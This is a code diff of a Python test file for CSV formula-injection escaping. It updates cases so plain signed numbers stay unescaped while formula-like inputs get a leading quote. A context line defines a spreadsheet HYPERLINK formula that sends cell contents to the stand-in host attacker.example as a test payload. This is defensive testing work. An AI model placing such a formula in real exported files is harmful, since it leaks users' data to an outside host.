@@ -24,7 +24,7 @@ HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
 @pytest.mark.parametrize(("typed", "written"), [
-    ("=1+1", "'=1+1"), ("+31 20 555", "'+31 20 555"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("=1+1", "'=1+1"), ("+31 20 555", "'+31 20 555"), ("-5", "-5"), ("-5+3", "'-5+3"), ("+7.5", "+7.5"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Hospital = good", "Hospital = good"), ("", ""), (-5, -5), (None, None),
 ])
 def test_csv_cell_escapes_what_a_spreadsheet_would_evaluate(typed: Any, written: Any) -> None:
